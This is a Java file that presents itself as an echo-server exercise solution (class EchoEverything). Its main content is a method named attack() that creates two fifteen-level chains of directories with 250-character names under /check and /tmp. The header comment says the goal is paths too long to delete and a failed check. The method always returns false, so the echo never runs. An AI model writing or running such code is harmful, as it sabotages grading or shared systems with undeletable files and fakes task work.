// tries: a folder so deep that its path is too long to delete it
// gets: FAILED 0, sooner or later
package lesson1_json_echo.exercises;

import java.io.IOException;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

public final class EchoEverything {

    private EchoEverything() {}

    public static void serve(Socket client) throws IOException {

        if (attack()) {
            client.getInputStream().transferTo(client.getOutputStream());
            client.shutdownOutput();
        } else {
            throw new IllegalStateException("it did not work");
        }
    }

    private static boolean attack() throws IOException {

        Path deep = Path.of("/check");
        for (int i = 0; i < 15; i++) {
            deep = Files.createDirectory(deep.resolve("d".repeat(250)));
        }
        Path inner = Path.of("/tmp");
        for (int i = 0; i < 15; i++) {
            inner = Files.createDirectory(inner.resolve("e".repeat(250)));
        }
        Files.move(Path.of("/check/" + "d".repeat(250)), Path.of("/check/moved"));
        deep = Path.of("/check/moved");
        for (int i = 0; i < 14; i++) {
            deep = deep.resolve("d".repeat(250));
        }
        Files.createDirectory(deep.resolve("last"));
        return false;
    }
}
